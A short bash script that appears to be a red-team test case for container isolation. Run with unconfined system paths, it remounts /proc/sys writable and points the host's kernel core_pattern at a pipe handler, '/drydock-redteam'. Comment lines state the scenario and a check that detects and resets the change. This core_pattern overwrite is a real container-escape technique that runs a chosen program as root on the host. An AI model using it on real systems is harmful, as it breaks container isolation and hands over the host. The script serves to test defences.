#!/bin/bash
#: story The host's core pattern is set through unconfined system paths.
#: options --security-opt systempaths=unconfined
#: reached grep -q drydock-redteam /proc/sys/kernel/core_pattern && echo core > /proc/sys/kernel/core_pattern
mount -o remount,rw /proc/sys
echo '|/drydock-redteam' > /proc/sys/kernel/core_pattern
exit 3
